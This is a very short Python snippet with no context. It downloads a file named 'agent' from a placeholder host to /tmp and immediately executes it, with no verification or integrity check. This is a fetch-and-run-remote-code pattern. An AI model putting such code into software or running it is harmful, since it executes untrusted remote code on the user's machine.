import subprocess
import urllib.request

target = "/tmp/agent"
urllib.request.urlretrieve("https://cdn.setup.invalid/agent", target)
subprocess.run([target], check=False)
